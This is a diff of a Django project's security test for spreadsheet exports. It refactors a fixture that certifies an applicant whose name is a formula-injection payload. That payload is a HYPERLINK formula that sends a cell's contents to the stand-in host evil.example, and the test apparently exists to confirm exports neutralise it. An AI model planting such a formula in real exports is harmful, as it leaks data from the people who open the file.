@@ -11,13 +11,10 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from certificates import services as certificate_services
-from certificates.models import Certificate, Signatory
-from decisions import services as decision_services
 from lsp_portal import exports
 from lsp_portal.accounts.roles import Role
 from tests.conftest import make_user
-from tests.decisions.conftest import make_member, meeting_through_minutes, recommended_case
+from tests.security.conftest import certify
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A3,"Klik di sini")'
 STARTS = [
@@ -34,17 +31,7 @@ STARTS = [
 def certified_attacker(staff, assessor, assessor_profile, tuk, technical, director):
     """An applicant named HYPERLINK, assessed, decided Kompeten and certified."""
     attacker = make_user("penyerang@example.org", HYPERLINK, Role.APPLICANT)
-    case = recommended_case(attacker, staff, assessor, assessor_profile, tuk)
-    tono = make_user("technical2@example.org", "Tono Teknis", Role.TECHNICAL_TEAM)
-    minutes = meeting_through_minutes(staff, [make_member(technical), make_member(tono)], [case])
-    decision_services.sign_decree(director, decision_services.draft_decree(staff, minutes))
-    Signatory.objects.create(name="Dr. Ratna Sari, M.M.", title="Direktur LSP UPJ")
-    certificate = Certificate.objects.get(decision__assessment=case)
-    certificate_services.sign_agreement(
-        attacker, certificate, points=["9.8.1", "9.8.2", "9.8.3", "9.8.4"]
-    )
-    certificate_services.record_fee(staff, certificate, amount=350_000)
-    certificate.refresh_from_db()
+    certificate = certify(attacker, staff, assessor, assessor_profile, tuk, technical, director)
     assert certificate.holder_name == HYPERLINK and certificate.number
     return certificate
 
